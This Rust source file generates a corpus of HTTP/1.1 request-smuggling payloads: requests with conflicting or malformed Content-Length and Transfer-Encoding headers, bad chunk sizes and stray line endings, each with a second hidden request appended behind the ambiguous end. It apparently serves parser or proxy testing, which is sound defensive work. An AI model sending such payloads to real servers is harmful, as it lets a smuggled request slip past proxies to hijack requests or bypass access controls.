//! Requests whose end two readers of HTTP/1.1 may see at different places (RFC 9112 §11.2). A reader that takes what stands
//! behind for a second request takes what somebody smuggled through the proxy before it.

/// One of them.
#[derive(Clone, Debug)]
pub struct Smuggled {
    /// What is odd about it.
    pub what: &'static str,
    /// Everything that is sent.
    pub bytes: Vec<u8>,
}

/// Requests for `first` (`POST /path`) to `host`, each with `second`, a whole request of its own, behind its doubtful end. The
/// body, where there is one, is `body`, at least two bytes long.
#[must_use]
pub fn corpus(first: &str, host: &str, body: &[u8], second: &[u8]) -> Vec<Smuggled> {
    let length = body.len();
    let chunk = [format!("{length:x}\r\n").as_bytes(), body, b"\r\n0\r\n\r\n"].concat();
    let head =
        |lines: &str| format!("{first} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/hl7-v2\r\n{lines}\r\n");
    let mut found = Vec::new();
    let mut add = |what: &'static str, head: String, body: &[u8]| {
        found.push(Smuggled { what, bytes: [head.as_bytes(), body, second].concat() });
    };
    for (what, lines) in lengths(length) {
        add(what, head(&lines), body);
    }
    for (what, lines) in codings(length) {
        add(what, head(&lines), &chunk);
    }
    let chunked = head("Transfer-Encoding: chunked\r\n");
    for (what, size) in [
        ("a chunk of a size with 0x", format!("0x{length:x}\r\n")),
        ("a chunk of a size with a sign", format!("+{length:x}\r\n")),
        ("a chunk of a negative size", format!("-{length:x}\r\n")),
        ("a chunk of a size beyond all numbers", "fffffffffffffffff\r\n".to_owned()),
        ("a chunk of a size with a blank in it", format!("{length:x} 0\r\n")),
        ("a chunk of no size", "\r\n".to_owned()),
        ("a chunk whose extension ends with a bare line feed", format!("{length:x};a\nb\r\n")),
    ] {
        add(what, chunked.clone(), &[size.as_bytes(), body, b"\r\n0\r\n\r\n"].concat());
    }
    let longer = [format!("{length:x}\r\n").as_bytes(), body, b"XX0\r\n\r\n"].concat();
    add("a chunk that is longer than it says", chunked, &longer);
    add("chunks in HTTP/1.0", head("Transfer-Encoding: chunked\r\n").replace("HTTP/1.1", "HTTP/1.0"), &chunk);
    let plain = head(&format!("Content-Length: {length}\r\n"));
    add("a line that begins with a blank", plain.replace("\r\nHost:", "\r\n Host:"), body);
    add("a request line with a bare carriage return", plain.replacen(" HTTP", "\r HTTP", 1), body);
    found
}

fn lengths(length: usize) -> Vec<(&'static str, String)> {
    vec![
        ("two lengths, the short one first", format!("Content-Length: 2\r\nContent-Length: {length}\r\n")),
        ("two lengths, the long one first", format!("Content-Length: {length}\r\nContent-Length: 2\r\n")),
        ("two lengths in one line", format!("Content-Length: {length}, 2\r\n")),
        ("a length with a sign", format!("Content-Length: +{length}\r\n")),
        ("a negative length", "Content-Length: -1\r\n".to_owned()),
        ("a length in hexadecimal", format!("Content-Length: 0x{length:x}\r\n")),
        ("a length with a blank in it", format!("Content-Length: {length} 0\r\n")),
        ("a length beyond all numbers", "Content-Length: 18446744073709551617\r\n".to_owned()),
        ("an empty length", "Content-Length: \r\n".to_owned()),
        ("a blank before the colon", format!("Content-Length : {length}\r\n")),
        ("a length with a zero byte", format!("Content-Length: {length}\0\r\n")),
        ("a length that goes on in the next line", format!("Content-Length: {length}\r\n 0\r\n")),
        ("a length behind a bare carriage return", format!("X-A: b\rContent-Length: {length}\r\n")),
    ]
}

fn codings(length: usize) -> Vec<(&'static str, String)> {
    vec![
        ("length, then coding", format!("Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n")),
        ("coding, then length", format!("Transfer-Encoding: chunked\r\nContent-Length: {length}\r\n")),
        ("coding and no length", "Transfer-Encoding: chunked\r\nContent-Length: 0\r\n".to_owned()),
        (
            "a coding that nobody knows, with a length",
            format!("Content-Length: {length}\r\nTransfer-Encoding: xchunked\r\n"),
        ),
        ("chunked is not the last coding", "Transfer-Encoding: chunked, identity\r\n".to_owned()),
        (
            "two codings, the last not chunked",
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n".to_owned(),
        ),
        (
            "a blank before the colon of a coding",
            format!("Transfer-Encoding : chunked\r\nContent-Length: {length}\r\n"),
        ),
        ("a coding in the next line", format!("Transfer-Encoding:\r\n chunked\r\nContent-Length: {length}\r\n")),
        ("a coding with a vertical tab", format!("Transfer-Encoding: \x0bchunked\r\nContent-Length: {length}\r\n")),
        ("a coding with a zero byte", format!("Transfer-Encoding: chunked\0\r\nContent-Length: {length}\r\n")),
        ("a coding in quotes", format!("Transfer-Encoding: \"chunked\"\r\nContent-Length: {length}\r\n")),
        (
            "a coding behind a bare line feed",
            format!("X-A: b\nTransfer-Encoding: chunked\r\nContent-Length: {length}\r\n"),
        ),
        (
            "a coding behind a bare carriage return",
            format!("Content-Length: {length}\r\nX-A: b\rTransfer-Encoding: chunked\r\n"),
        ),
    ]
}
